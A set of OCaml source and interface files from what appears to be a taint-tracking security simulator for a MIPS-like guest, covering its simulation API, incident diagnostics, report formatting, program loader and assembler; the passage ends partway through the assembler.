val run : ?deadline:float -> ?slice:int -> ?config:config -> Ptaint_asm.Program.t -> result
val run_asm : ?config:config -> string -> result
(** Assemble (failing loudly on errors) and run. *)

(** {1 Boot images (snapshot templates)}

    Loading a guest image is the expensive part of booting: the
    loader assembles argv/env/stack and writes every initial byte
    (data and taint) through the tagged store; decoding the text
    segment into block tables is the other cost every boot used to
    repay.  An {!Image.t} performs both once — load, copy-on-write
    {!Ptaint_mem.Memory.snapshot}, {!Ptaint_cpu.Block.analyze} — and
    each {!boot_template} then restores the snapshot and seeds the
    machine's pre-decode cache by reference instead of re-doing
    either.  Snapshot pages and block tables are immutable after
    creation (memory writers clone before mutating), so one image may
    be booted concurrently from any number of domains — and parked
    indefinitely in the daemon's cache.

    The memory image depends on [argv], [env] and [sources] (they
    shape the initial stack and its taint), so an image is only
    valid for configs that agree with the one it was prepared under;
    everything else — policy, stdin, sessions, fs, uid, fuel, timing
    — may vary freely between boots. *)

(** A prepared boot image.  Immutable; share freely by reference. *)
module Image : sig
  type t

  val program : t -> Ptaint_asm.Program.t
  (** The program the image was prepared from. *)

  val blocks : t -> Ptaint_cpu.Block.t
  (** The pre-decoded block tables every boot of this image shares. *)

  val tier_for : t -> Ptaint_cpu.Policy.t -> Ptaint_cpu.Superblock.tier
  (** The image's shared superblock translation table for [policy],
      created on first request.  Translated closures bake policy
      constants, so tiers are per-(image, policy); every boot of the
      image under the same policy shares one table, so superblocks
      translated by one job (on any domain) are reused by the next —
      the translation analogue of the copy-on-write snapshot. *)
end

type template = Image.t
(** Historical name for {!Image.t}; the [*_template] entry points
    below operate on images. *)

val prepare : ?config:config -> Ptaint_asm.Program.t -> template
(** Load [program] once, snapshot its initial memory and pre-decode
    its text.  Only [config.argv]/[env]/[sources] matter here. *)

val template_matches : config -> Ptaint_asm.Program.t -> template -> bool
(** [true] when the template was prepared from this program (physical
    equality) under the same argv/env/sources. *)

val boot_template : ?config:config -> template -> session
(** Boot from the snapshot instead of re-loading.  Raises
    [Invalid_argument] if [config] disagrees with the template on
    argv/env/sources. *)

val run_template : ?deadline:float -> ?slice:int -> ?config:config -> template -> result
(** [finish (boot_template ?config tpl)] — bit-identical to
    [run ?config program] on the template's program.  [deadline] and
    [slice] route through {!finish_sliced}. *)

val boot_template_arena : ?config:config -> template -> session
(** {!boot_template} through this domain's recycled arena: the
    domain keeps one machine (register file, memory wrapper, page
    table) and each arena boot rewinds it in place from the image's
    snapshot ({!Ptaint_mem.Memory.reset_from_snapshot} +
    {!Ptaint_cpu.Machine.reset}) instead of allocating fresh — the
    image may differ from boot to boot.  Observationally identical to
    {!boot_template}, with a strictly weaker lifetime: the session
    (and any {!result} collected from it) aliases the arena and is
    valid only until the next arena boot on the same domain — extract
    what you need before booting again.  Configs using the timing
    model, [on_step] or [obs] fall back to a fresh boot (their
    sessions are meant to be kept). *)

val run_template_arena :
  ?deadline:float -> ?slice:int -> ?config:config -> template -> result
(** [finish (boot_template_arena ?config tpl)] — the streaming
    campaign's per-job fast path.  The result aliases the domain
    arena; read it before the next arena boot on this domain. *)

val templates_of :
  (config * Ptaint_asm.Program.t) list -> template list
(** One template per distinct image in the batch (grouping by program
    physical equality + argv/env/sources).  Programs the loader
    rejects are skipped — running them reproduces the failure. *)

val run_with :
  ?deadline:float -> ?slice:int ->
  template list -> config -> Ptaint_asm.Program.t -> result
(** Run via the matching template when there is one, falling back to
    a plain {!run}.  [deadline] arms the cooperative watchdog. *)

val run_many :
  ?domains:int -> (config * Ptaint_asm.Program.t) list -> result list
(** Run a batch of simulations on a fixed-size domain pool, one
    worker per domain (default [Pool.recommended_domains ()]), and
    return the results in submission order.  Jobs that share an image
    (same program, argv, env, sources) are loaded once via
    {!templates_of} and each run restores the snapshot.  Each
    simulation still gets a fresh machine/kernel/memory, so results
    are identical to a sequential
    [List.map (fun (c, p) -> run ~config:c p)] whatever [~domains]
    is.  This is the same engine behind [Campaign.run] — use the
    campaign API when you need per-job crash isolation, expectations
    or aggregate statistics. *)

val detected : result -> bool
val pp_outcome : Format.formatter -> outcome -> unit

(** {1 Observation}

    Only meaningful when the session was booted with
    [config ~obs:true]; all three return empty/[None] otherwise. *)

val trace : session -> Ptaint_obs.Trace.t option
(** The session's event bus — subscribe sinks before running. *)

val events : result -> Ptaint_obs.Event.t list
(** Recorded events, in emission order. *)

val insn_window : result -> (int * Ptaint_isa.Insn.t) list
(** The last-N [(pc, insn)] window the machine executed, oldest
    first. *)
