(** Post-mortem diagnostics for alerts and faults.

    When the detector fires, the operator wants more than a PC: which
    function, called from where, and what the tainted registers held.
    The frame layout is fixed (saved FP at [fp+0], return address at
    [fp+4]), so the guest call chain can be recovered by walking the
    frame-pointer links — exactly what a debugger does. *)

val nearest_symbol : Ptaint_asm.Program.t -> int -> (string * int) option
(** [nearest_symbol p addr] is the closest text symbol at or below
    [addr] and the offset into it. *)

val symbolize : Ptaint_asm.Program.t -> int -> string
(** ["function+0x1c"] or the bare hex address. *)

type frame = { pc : int; location : string }

val backtrace :
  ?limit:int -> Ptaint_asm.Program.t -> Ptaint_cpu.Machine.t -> frame list
(** Innermost frame first.  Stops at [main]/[_start], on a corrupt
    frame chain, or after [limit] frames (default 32). *)

val tainted_registers : Ptaint_cpu.Machine.t -> (string * Ptaint_taint.Tword.t) list
(** Every tainted architectural slot by name — the 32 GPRs {e and}
    HI/LO, so tainted multiply/divide results are reported too. *)

val report : Sim.result -> string
(** A human-readable incident report for an [Alert]/[Fault] outcome:
    the alert line, symbolized PC, guest backtrace, and the tainted
    registers at the time of detection.  When the run was observed
    ([Sim.config ~obs:true]) the report also includes the last-N
    instruction window leading up to detection and a taint-provenance
    narrative: which syscall introduced the tainted bytes (and at what
    input offset), which registers and regions they reached, and the
    alert itself. *)
