let text_symbols (p : Ptaint_asm.Program.t) =
  let text_end = p.Ptaint_asm.Program.text_base + (4 * Array.length p.Ptaint_asm.Program.insns) in
  List.filter
    (fun (_, addr) -> addr >= p.Ptaint_asm.Program.text_base && addr < text_end)
    p.Ptaint_asm.Program.symbols
  |> List.sort (fun (_, a) (_, b) -> compare a b)

let in_text (p : Ptaint_asm.Program.t) addr =
  addr >= p.Ptaint_asm.Program.text_base
  && addr < p.Ptaint_asm.Program.text_base + (4 * Array.length p.Ptaint_asm.Program.insns)

(* Closest text symbol at or below [addr] among those passing [keep],
   as (name, offset-into-symbol). *)
let nearest ?(keep = fun _ -> true) p addr =
  if not (in_text p addr) then None
  else
    List.fold_left
      (fun best (name, saddr) ->
        if saddr <= addr && keep name then
          match best with
          | Some (_, baddr) when baddr >= saddr -> best
          | _ -> Some (name, saddr)
        else best)
      None (text_symbols p)
    |> Option.map (fun (name, saddr) -> (name, addr - saddr))

let nearest_symbol p addr = nearest p addr

(* Generated local labels (_L12, _Lepi3, _Str4) are not useful frame
   names; prefer the enclosing function symbol. *)
let is_local_label name = String.length name > 1 && name.[0] = '_' && name.[1] = 'L'

let nearest_function p addr = nearest ~keep:(fun name -> not (is_local_label name)) p addr

let symbolize p addr =
  match nearest_function p addr with
  | Some (name, 0) -> name
  | Some (name, off) -> Printf.sprintf "%s+0x%x" name off
  | None -> Printf.sprintf "0x%08x" addr

type frame = { pc : int; location : string }

let backtrace ?(limit = 32) (p : Ptaint_asm.Program.t) (m : Ptaint_cpu.Machine.t) =
  let mem = m.Ptaint_cpu.Machine.mem in
  let frame_of pc = { pc; location = symbolize p pc } in
  let rec walk acc fp n =
    if n >= limit then List.rev acc
    else if not (Ptaint_mem.Memory.is_mapped mem fp && Ptaint_mem.Memory.is_mapped mem (fp + 4))
    then List.rev acc
    else
      let saved_fp = Ptaint_taint.Tword.value (Ptaint_mem.Memory.load_word mem fp) in
      let ra = Ptaint_taint.Tword.value (Ptaint_mem.Memory.load_word mem (fp + 4)) in
      if not (in_text p ra) then List.rev acc
      else
        let acc = frame_of ra :: acc in
        (* frame pointers must strictly increase up the stack *)
        if saved_fp <= fp then List.rev acc else walk acc saved_fp (n + 1)
  in
  let fp = Ptaint_cpu.Regfile.value m.Ptaint_cpu.Machine.regs Ptaint_isa.Reg.fp in
  walk [ frame_of m.Ptaint_cpu.Machine.pc ] fp 1

let tainted_registers (m : Ptaint_cpu.Machine.t) =
  (* Every architectural slot, HI/LO included — a tainted multiply
     result must not escape the report just because it lives outside
     the 32 GPRs. *)
  List.filter_map
    (fun s ->
      let w = Ptaint_cpu.Regfile.slot m.Ptaint_cpu.Machine.regs s in
      if Ptaint_taint.Tword.is_tainted w then Some (Ptaint_cpu.Regfile.slot_name s, w)
      else None)
    (List.init Ptaint_cpu.Regfile.slots Fun.id)

let report (result : Sim.result) =
  let buf = Buffer.create 512 in
  let p = result.Sim.image.Ptaint_asm.Loader.program in
  let m = result.Sim.machine in
  (match result.Sim.outcome with
   | Sim.Alert a ->
     Buffer.add_string buf
       (Format.asprintf "security alert: %a\n" Ptaint_cpu.Machine.pp_alert a);
     Buffer.add_string buf
       (Printf.sprintf "  in %s\n" (symbolize p a.Ptaint_cpu.Machine.alert_pc))
   | Sim.Fault f ->
     Buffer.add_string buf (Format.asprintf "fault: %a\n" Ptaint_cpu.Machine.pp_fault f);
     Buffer.add_string buf (Printf.sprintf "  at %s\n" (symbolize p m.Ptaint_cpu.Machine.pc))
   | o -> Buffer.add_string buf (Format.asprintf "outcome: %a\n" Sim.pp_outcome o));
  Buffer.add_string buf "guest backtrace:\n";
  List.iteri
    (fun i f -> Buffer.add_string buf (Printf.sprintf "  #%d %08x %s\n" i f.pc f.location))
    (backtrace p m);
  (match tainted_registers m with
   | [] -> ()
   | regs ->
     Buffer.add_string buf "tainted registers:\n";
     List.iter
       (fun (name, w) ->
         Buffer.add_string buf
           (Format.asprintf "  $%s = %a\n" name Ptaint_taint.Tword.pp w))
       regs);
  (match Sim.insn_window result with
   | [] -> ()
   | window ->
     Buffer.add_string buf
       (Printf.sprintf "last %d instructions before detection:\n" (List.length window));
     List.iter
       (fun (pc, insn) ->
         let text = Format.asprintf "%a" Ptaint_isa.Insn.pp insn in
         Buffer.add_string buf (Printf.sprintf "  %08x  %-28s %s\n" pc text (symbolize p pc)))
       window);
  (match Sim.events result with
   | [] -> ()
   | evs ->
     let interesting e =
       match e with
       | Ptaint_obs.Event.Taint_in _ | Ptaint_obs.Event.Reg_taint _
       | Ptaint_obs.Event.Tainted_store _ | Ptaint_obs.Event.Alert _
       | Ptaint_obs.Event.Fault _ | Ptaint_obs.Event.Fault_injected _ -> true
       | Ptaint_obs.Event.Syscall _ | Ptaint_obs.Event.Restore _
       | Ptaint_obs.Event.Job _ -> false
     in
     (match List.filter interesting evs with
      | [] -> ()
      | story ->
        (* Byte-at-a-time readers (gets) introduce taint once per byte;
           cap the introduction lines so the narrative stays readable. *)
        let max_intros = 8 in
        let intros =
          List.length
            (List.filter
               (function Ptaint_obs.Event.Taint_in _ -> true | _ -> false)
               story)
        in
        Buffer.add_string buf "taint provenance:\n";
        let shown = ref 0 in
        List.iter
          (fun e ->
            match e with
            | Ptaint_obs.Event.Taint_in _ ->
              incr shown;
              if !shown <= max_intros then
                Buffer.add_string buf
                  (Printf.sprintf "  %s\n" (Ptaint_obs.Event.to_string e))
              else if !shown = max_intros + 1 then
                Buffer.add_string buf
                  (Printf.sprintf "  ... %d further taint introductions elided\n"
                     (intros - max_intros))
            | _ ->
              Buffer.add_string buf
                (Printf.sprintf "  %s\n" (Ptaint_obs.Event.to_string e)))
          story));
  Buffer.contents buf
