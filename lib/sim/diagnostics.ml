let text_symbols (p : Ptaint_asm.Program.t) =
  let text_end = p.Ptaint_asm.Program.text_base + (4 * Array.length p.Ptaint_asm.Program.insns) in
  List.filter
    (fun (_, addr) -> addr >= p.Ptaint_asm.Program.text_base && addr < text_end)
    p.Ptaint_asm.Program.symbols
  |> List.sort (fun (_, a) (_, b) -> compare a b)

let in_text (p : Ptaint_asm.Program.t) addr =
  addr >= p.Ptaint_asm.Program.text_base
  && addr < p.Ptaint_asm.Program.text_base + (4 * Array.length p.Ptaint_asm.Program.insns)

let nearest_symbol p addr =
  if not (in_text p addr) then None
  else
  List.fold_left
    (fun best (name, saddr) ->
      if saddr <= addr then
        match best with
        | Some (_, baddr) when baddr >= saddr -> best
        | _ -> Some (name, saddr)
      else best)
    None (text_symbols p)
  |> Option.map (fun (name, saddr) -> (name, addr - saddr))

(* Generated local labels (_L12, _Lepi3, _Str4) are not useful frame
   names; prefer the enclosing function symbol. *)
let is_local_label name = String.length name > 1 && name.[0] = '_' && name.[1] = 'L'

let nearest_function p addr =
  if not (in_text p addr) then None
  else
  List.fold_left
    (fun best (name, saddr) ->
      if saddr <= addr && not (is_local_label name) then
        match best with
        | Some (_, baddr) when baddr >= saddr -> best
        | _ -> Some (name, saddr)
      else best)
    None (text_symbols p)
  |> Option.map (fun (name, saddr) -> (name, addr - saddr))

let symbolize p addr =
  match nearest_function p addr with
  | Some (name, 0) -> name
  | Some (name, off) -> Printf.sprintf "%s+0x%x" name off
  | None -> Printf.sprintf "0x%08x" addr

type frame = { pc : int; location : string }

let backtrace ?(limit = 32) (p : Ptaint_asm.Program.t) (m : Ptaint_cpu.Machine.t) =
  let mem = m.Ptaint_cpu.Machine.mem in
  let frame_of pc = { pc; location = symbolize p pc } in
  let rec walk acc fp n =
    if n >= limit then List.rev acc
    else if not (Ptaint_mem.Memory.is_mapped mem fp && Ptaint_mem.Memory.is_mapped mem (fp + 4))
    then List.rev acc
    else
      let saved_fp = Ptaint_taint.Tword.value (Ptaint_mem.Memory.load_word mem fp) in
      let ra = Ptaint_taint.Tword.value (Ptaint_mem.Memory.load_word mem (fp + 4)) in
      if not (in_text p ra) then List.rev acc
      else
        let acc = frame_of ra :: acc in
        (* frame pointers must strictly increase up the stack *)
        if saved_fp <= fp then List.rev acc else walk acc saved_fp (n + 1)
  in
  let fp = Ptaint_cpu.Regfile.value m.Ptaint_cpu.Machine.regs Ptaint_isa.Reg.fp in
  walk [ frame_of m.Ptaint_cpu.Machine.pc ] fp 1

let tainted_registers (m : Ptaint_cpu.Machine.t) =
  List.filter_map
    (fun r ->
      let w = Ptaint_cpu.Regfile.get m.Ptaint_cpu.Machine.regs r in
      if Ptaint_taint.Tword.is_tainted w then Some (r, w) else None)
    (List.init 32 Fun.id)

let report (result : Sim.result) =
  let buf = Buffer.create 512 in
  let p = result.Sim.image.Ptaint_asm.Loader.program in
  let m = result.Sim.machine in
  (match result.Sim.outcome with
   | Sim.Alert a ->
     Buffer.add_string buf
       (Format.asprintf "security alert: %a\n" Ptaint_cpu.Machine.pp_alert a);
     Buffer.add_string buf
       (Printf.sprintf "  in %s\n" (symbolize p a.Ptaint_cpu.Machine.alert_pc))
   | Sim.Fault f ->
     Buffer.add_string buf (Format.asprintf "fault: %a\n" Ptaint_cpu.Machine.pp_fault f);
     Buffer.add_string buf (Printf.sprintf "  at %s\n" (symbolize p m.Ptaint_cpu.Machine.pc))
   | o -> Buffer.add_string buf (Format.asprintf "outcome: %a\n" Sim.pp_outcome o));
  Buffer.add_string buf "guest backtrace:\n";
  List.iteri
    (fun i f -> Buffer.add_string buf (Printf.sprintf "  #%d %08x %s\n" i f.pc f.location))
    (backtrace p m);
  (match tainted_registers m with
   | [] -> ()
   | regs ->
     Buffer.add_string buf "tainted registers:\n";
     List.iter
       (fun (r, w) ->
         Buffer.add_string buf
           (Format.asprintf "  %a = %a\n" Ptaint_isa.Reg.pp_sym r Ptaint_taint.Tword.pp w))
       regs);
  Buffer.contents buf
