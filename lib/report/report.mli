(** Plain-text rendering for the experiment harness: aligned tables,
    horizontal bar charts, and section banners. *)

val table : headers:string list -> string list list -> string
(** Column-aligned ASCII table with a header rule. *)

val bar_chart : ?width:int -> (string * int) list -> string
(** One bar per row, scaled to the maximum value. *)

val section : string -> string
(** A banner line for a report section. *)

val kv : (string * string) list -> string
(** Aligned "key: value" lines. *)

val counters : ?width:int -> (string * int) list -> string
(** One [name value] counter per line, the name padded to [width]
    (default 28) columns — the awk-friendly dump format shared by
    [--daemon-stats], single-run [--metrics] and the campaign
    summaries. *)

val commas : int -> string
(** 15139 -> "15,139" — the paper prints large counts this way. *)
