let table ~headers rows =
  let all = headers :: rows in
  let ncols = List.fold_left (fun m r -> max m (List.length r)) 0 all in
  let pad r = r @ List.init (ncols - List.length r) (fun _ -> "") in
  let all = List.map pad all in
  let widths =
    List.init ncols (fun c ->
        List.fold_left (fun m r -> max m (String.length (List.nth r c))) 0 all)
  in
  let render_row r =
    List.mapi
      (fun c cell -> cell ^ String.make (List.nth widths c - String.length cell) ' ')
      r
    |> String.concat "  " |> String.trim
  in
  let rule =
    String.concat "--" (List.map (fun w -> String.make w '-') widths)
  in
  let buf = Buffer.create 256 in
  Buffer.add_string buf (render_row (pad headers));
  Buffer.add_char buf '\n';
  Buffer.add_string buf rule;
  Buffer.add_char buf '\n';
  List.iter
    (fun r ->
      Buffer.add_string buf (render_row r);
      Buffer.add_char buf '\n')
    rows;
  Buffer.contents buf

let bar_chart ?(width = 50) rows =
  let maxv = List.fold_left (fun m (_, v) -> max m v) 1 rows in
  let label_w = List.fold_left (fun m (l, _) -> max m (String.length l)) 0 rows in
  let buf = Buffer.create 256 in
  List.iter
    (fun (label, v) ->
      let bar = String.make (max 0 (v * width / maxv)) '#' in
      Buffer.add_string buf
        (Printf.sprintf "%-*s %5d  %s\n" label_w label v bar))
    rows;
  Buffer.contents buf

let section title =
  let line = String.make (String.length title + 8) '=' in
  Printf.sprintf "%s\n=== %s ===\n%s\n" line title line

let kv pairs =
  let w = List.fold_left (fun m (k, _) -> max m (String.length k)) 0 pairs in
  String.concat ""
    (List.map (fun (k, v) -> Printf.sprintf "%-*s : %s\n" w k v) pairs)

(* One counter per line, name left-padded to a fixed column so the
   output is awk-friendly (`$1 == "name" { print $2 }`): the format
   every counter dump in the toolchain shares — `--daemon-stats`,
   single-run `--metrics`, the generative campaign summaries. *)
let counters ?(width = 28) rows =
  String.concat ""
    (List.map (fun (name, v) -> Printf.sprintf "%-*s %d\n" width name v) rows)

let commas n =
  let s = string_of_int (abs n) in
  let len = String.length s in
  let buf = Buffer.create (len + 4) in
  if n < 0 then Buffer.add_char buf '-';
  String.iteri
    (fun i c ->
      if i > 0 && (len - i) mod 3 = 0 then Buffer.add_char buf ',';
      Buffer.add_char buf c)
    s;
  Buffer.contents buf
