type t = {
  insns : Ptaint_isa.Insn.t array;
  text_base : int;
  data : string;
  data_base : int;
  symbols : (string * int) list;
  entry : int;
  lines : int array;
}

let symbol t name = List.assoc_opt name t.symbols

let symbol_exn t name =
  match symbol t name with
  | Some a -> a
  | None -> invalid_arg ("Program.symbol_exn: undefined symbol " ^ name)

let text_bytes t = 4 * Array.length t.insns
let data_bytes t = String.length t.data
let data_end t = t.data_base + String.length t.data

let disassemble t =
  let buf = Buffer.create 4096 in
  Array.iteri
    (fun i insn ->
      Buffer.add_string buf
        (Printf.sprintf "%08x: %s\n" (t.text_base + (4 * i)) (Ptaint_isa.Insn.to_string insn)))
    t.insns;
  Buffer.contents buf
