(** Program loader.

    Builds the guest memory image: maps and initialises the data
    segment, maps the stack, and injects [argc]/[argv]/[envp] in the
    conventional layout ([$sp] pointing at [argc]).  Command-line
    argument and environment bytes are marked tainted according to the
    {!Ptaint_os.Sources.t} policy — they are external input (paper
    section 4.4). *)

type error = { where : string; message : string }
(** [where] names the offending part of the image ("data segment",
    "entry", "arguments", ...); assembler failures keep their source
    line via {!Assembler.Asm_error} instead. *)

exception Error of error
(** Typed load failure, raised by {!load} before any page is mapped.
    The campaign runtime classifies it as [Loader_error], not a
    crash. *)

val pp_error : Format.formatter -> error -> unit

type image = {
  program : Program.t;
  mem : Ptaint_mem.Memory.t;
  code : Ptaint_cpu.Machine.code;
  entry : int;
  initial_sp : int;
  heap_base : int;   (** page-aligned first break *)
  heap_limit : int;
  args_bytes : int;  (** bytes of argv/env string data injected *)
}

val load :
  ?argv:string list ->
  ?env:(string * string) list ->
  ?sources:Ptaint_os.Sources.t ->
  ?stack_bytes:int ->
  ?heap_bytes:int ->
  Program.t ->
  image
