(** An assembled, linked SIMIPS program. *)

type t = {
  insns : Ptaint_isa.Insn.t array;
  text_base : int;
  data : string;            (** initialised data segment image *)
  data_base : int;
  symbols : (string * int) list;
  entry : int;
  lines : int array;        (** source line of each instruction *)
}

val symbol : t -> string -> int option
val symbol_exn : t -> string -> int
val text_bytes : t -> int
val data_bytes : t -> int
val data_end : t -> int
(** First free address above initialised data — the initial heap
    break. *)

val disassemble : t -> string
(** Full text-segment listing with addresses. *)
