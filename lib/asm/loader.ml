open Ptaint_mem

type image = {
  program : Program.t;
  mem : Memory.t;
  code : Ptaint_cpu.Machine.code;
  entry : int;
  initial_sp : int;
  heap_base : int;
  heap_limit : int;
  args_bytes : int;
}

type error = { where : string; message : string }

exception Error of error

let pp_error ppf e = Format.fprintf ppf "%s: %s" e.where e.message

let error where fmt = Printf.ksprintf (fun message -> raise (Error { where; message })) fmt

let align_up v a = (v + a - 1) land lnot (a - 1)

(* Reject malformed images before any page is mapped: a program whose
   segments collide (or whose entry point lies outside the text
   segment) must surface as a typed loader error the campaign can
   classify, not as a wild allocation or a bare exception later. *)
let validate ~argv ~env ~stack_bytes ~heap_bytes (program : Program.t) =
  if stack_bytes < Layout.page_bytes then
    error "stack" "stack size %d is below one page (%d bytes)" stack_bytes Layout.page_bytes;
  if heap_bytes < 0 then error "heap" "negative heap size %d" heap_bytes;
  let data_len = max (String.length program.Program.data) 16 in
  let stack_lo = Layout.stack_top - stack_bytes in
  let heap_base = align_up (Program.data_end program) Layout.page_bytes in
  if program.Program.data_base + data_len > stack_lo || heap_base + heap_bytes > stack_lo then
    error "data segment"
      "data+heap [0x%08x, 0x%08x) collides with the stack (low water 0x%08x)"
      program.Program.data_base (heap_base + heap_bytes) stack_lo;
  let text_len = Array.length program.Program.insns in
  let entry = program.Program.entry in
  if text_len > 0
     && (entry land 3 <> 0
         || entry < program.Program.text_base
         || entry >= program.Program.text_base + (4 * text_len))
  then
    error "entry" "entry point 0x%08x outside the text segment [0x%08x, 0x%08x)" entry
      program.Program.text_base
      (program.Program.text_base + (4 * text_len));
  let args_bytes =
    List.fold_left (fun n s -> n + String.length s + 1) 0 argv
    + List.fold_left (fun n (k, v) -> n + String.length k + String.length v + 2) 0 env
    + (4 * (List.length argv + List.length env + 3))
  in
  if args_bytes + 256 > stack_bytes then
    error "arguments" "argv/env block (%d bytes) does not fit the %d-byte stack" args_bytes
      stack_bytes

let load ?(argv = [ "prog" ]) ?(env = []) ?(sources = Ptaint_os.Sources.all)
    ?(stack_bytes = Layout.default_stack_bytes) ?(heap_bytes = Layout.default_heap_bytes)
    (program : Program.t) =
  validate ~argv ~env ~stack_bytes ~heap_bytes program;
  let mem = Memory.create () in
  (* Data segment (at least one page so the break is mapped). *)
  let data_len = max (String.length program.Program.data) 16 in
  Memory.map_range mem ~lo:program.Program.data_base ~bytes:data_len;
  Memory.write_string mem program.Program.data_base program.Program.data ~taint:false;
  let heap_base = align_up (Program.data_end program) Layout.page_bytes in
  let heap_limit = heap_base + heap_bytes in
  (* Stack. *)
  let stack_lo = Layout.stack_top - stack_bytes in
  Memory.map_range mem ~lo:stack_lo ~bytes:stack_bytes;
  (* Argument block, built downward from the stack top. *)
  let cursor = ref Layout.stack_top in
  let args_bytes = ref 0 in
  let push_string s ~taint =
    let len = String.length s + 1 in
    cursor := !cursor - len;
    Memory.write_string mem !cursor s ~taint;
    Memory.store_byte mem (!cursor + String.length s) 0 ~taint:false;
    args_bytes := !args_bytes + len;
    !cursor
  in
  let argv_ptrs = List.map (fun s -> push_string s ~taint:sources.Ptaint_os.Sources.args) argv in
  let env_ptrs =
    List.map
      (fun (k, v) -> push_string (k ^ "=" ^ v) ~taint:sources.Ptaint_os.Sources.env)
      env
  in
  cursor := !cursor land lnot 3;
  let push_word w =
    cursor := !cursor - 4;
    Memory.store_word mem !cursor (Ptaint_taint.Tword.untainted w)
  in
  (* envp array (NULL-terminated), then argv array, then argc; [$sp]
     ends up pointing at argc with argv = $sp+4. *)
  push_word 0;
  List.iter push_word (List.rev env_ptrs);
  let envp_addr = !cursor in
  ignore envp_addr;
  push_word 0;
  List.iter push_word (List.rev argv_ptrs);
  push_word (List.length argv);
  let initial_sp = !cursor in
  { program;
    mem;
    code = { Ptaint_cpu.Machine.base = program.Program.text_base; insns = program.Program.insns };
    entry = program.Program.entry;
    initial_sp;
    heap_base;
    heap_limit;
    args_bytes = !args_bytes }
