(** Two-pass assembler for SIMIPS assembly.

    Supports the full instruction set of {!Ptaint_isa.Insn}, the
    directives [.text .data .word .half .byte .ascii .asciiz .space
    .align .globl], and the usual pseudo-instructions ([li la move b
    beqz bnez blt ble bgt bge bltu bleu bgtu bgeu seq sne mul divq rem
    not neg]).  [.word] initialisers may reference labels (including
    text labels — function pointers and jump tables). *)

type error = { line : int; message : string }

exception Asm_error of error
(** The typed assembly failure: [line] is the 1-based source line.
    Raised by {!assemble_exn}; the campaign runtime classifies it as a
    loader error, not a crash. *)

val assemble :
  ?text_base:int -> ?data_base:int -> string -> (Program.t, error) result

val assemble_exn : ?text_base:int -> ?data_base:int -> string -> Program.t
(** Like {!assemble} but raises {!Asm_error} on malformed input. *)

val pp_error : Format.formatter -> error -> unit
