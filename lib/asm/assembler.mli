(** Two-pass assembler for SIMIPS assembly.

    Supports the full instruction set of {!Ptaint_isa.Insn}, the
    directives [.text .data .word .half .byte .ascii .asciiz .space
    .align .globl], and the usual pseudo-instructions ([li la move b
    beqz bnez blt ble bgt bge bltu bleu bgtu bgeu seq sne mul divq rem
    not neg]).  [.word] initialisers may reference labels (including
    text labels — function pointers and jump tables). *)

type error = { line : int; message : string }

val assemble :
  ?text_base:int -> ?data_base:int -> string -> (Program.t, error) result

val assemble_exn : ?text_base:int -> ?data_base:int -> string -> Program.t
val pp_error : Format.formatter -> error -> unit
