(** Line-level tokenizer for SIMIPS assembly. *)

type token =
  | Ident of string      (** mnemonic, label or symbol reference *)
  | Register of Ptaint_isa.Reg.t
  | Int of int
  | Str of string        (** double-quoted, escapes resolved *)
  | Comma
  | Colon
  | Lparen
  | Rparen

val tokenize : string -> (token list, string) result
(** Tokenize one line; comments ([#], [;], [//]) are stripped.
    Integer literals: decimal, [0x] hex, negative, character ['c']
    with the usual escapes. *)

val pp_token : Format.formatter -> token -> unit
