open Ptaint_isa

type error = { line : int; message : string }

let pp_error ppf e = Format.fprintf ppf "line %d: %s" e.line e.message

exception Asm_error of error

let fail line message = raise (Asm_error { line; message })

(* ------------------------------------------------------------------ *)
(* Parsed statements                                                   *)

type operand =
  | Oreg of Reg.t
  | Oimm of int
  | Osym of string
  | Omem of int * Reg.t

type word_init = Wint of int | Wsym of string

type stmt =
  | Sinsn of string * operand list
  | Stext
  | Sdata
  | Sword of word_init list
  | Shalf of int list
  | Sbyte of int list
  | Sascii of string
  | Sspace of int
  | Salign of int

type located = { line : int; labels : string list; stmt : stmt option }

let parse_operands line tokens =
  let rec operand = function
    | Lexer.Register r :: rest -> (Oreg r, rest)
    | Lexer.Int d :: Lexer.Lparen :: Lexer.Register r :: Lexer.Rparen :: rest ->
      (Omem (d, r), rest)
    | Lexer.Lparen :: Lexer.Register r :: Lexer.Rparen :: rest -> (Omem (0, r), rest)
    | Lexer.Int d :: rest -> (Oimm d, rest)
    | Lexer.Ident s :: rest -> (Osym s, rest)
    | _ -> fail line "bad operand"
  and operands acc = function
    | [] -> List.rev acc
    | tokens ->
      let op, rest = operand tokens in
      (match rest with
       | [] -> List.rev (op :: acc)
       | Lexer.Comma :: rest -> operands (op :: acc) rest
       | _ -> fail line "expected ',' between operands")
  in
  operands [] tokens

let int_list line ops =
  List.map (function Oimm n -> n | _ -> fail line "expected integer") ops

let word_list line ops =
  List.map
    (function Oimm n -> Wint n | Osym s -> Wsym s | _ -> fail line "expected integer or symbol")
    ops

let parse_stmt line tokens : stmt option =
  match tokens with
  | [] -> None
  | Lexer.Ident d :: rest when String.length d > 0 && d.[0] = '.' -> (
    let ops () = parse_operands line rest in
    match d with
    | ".text" -> Some Stext
    | ".data" -> Some Sdata
    | ".word" -> Some (Sword (word_list line (ops ())))
    | ".half" -> Some (Shalf (int_list line (ops ())))
    | ".byte" -> Some (Sbyte (int_list line (ops ())))
    | ".ascii" -> (
      match rest with
      | [ Lexer.Str s ] -> Some (Sascii s)
      | _ -> fail line ".ascii expects one string")
    | ".asciiz" -> (
      match rest with
      | [ Lexer.Str s ] -> Some (Sascii (s ^ "\000"))
      | _ -> fail line ".asciiz expects one string")
    | ".space" -> (
      match ops () with
      | [ Oimm n ] ->
        if n < 0 then fail line (Printf.sprintf ".space size must be non-negative (got %d)" n);
        Some (Sspace n)
      | _ -> fail line ".space expects a size")
    | ".align" -> (
      match ops () with [ Oimm n ] -> Some (Salign n) | _ -> fail line ".align expects a power")
    | ".globl" | ".global" | ".ent" | ".end" -> None
    | _ -> fail line ("unknown directive " ^ d))
  | Lexer.Ident m :: rest -> Some (Sinsn (m, parse_operands line rest))
  | _ -> fail line "expected mnemonic or directive"

(* Split leading "label:" prefixes off a token list. *)
let rec split_labels acc = function
  | Lexer.Ident l :: Lexer.Colon :: rest when String.length l > 0 && l.[0] <> '.' ->
    split_labels (l :: acc) rest
  | tokens -> (List.rev acc, tokens)

let parse_line lineno text : located =
  match Lexer.tokenize text with
  | Error m -> fail lineno m
  | Ok tokens ->
    let labels, rest = split_labels [] tokens in
    { line = lineno; labels; stmt = parse_stmt lineno rest }

(* ------------------------------------------------------------------ *)
(* Pseudo-instruction expansion length                                 *)

let fits16 v = v >= -32768 && v <= 32767

let li_length v = if fits16 v || v land 0xffff = 0 then 1 else 2

let insn_length line mnemonic ops =
  match (mnemonic, ops) with
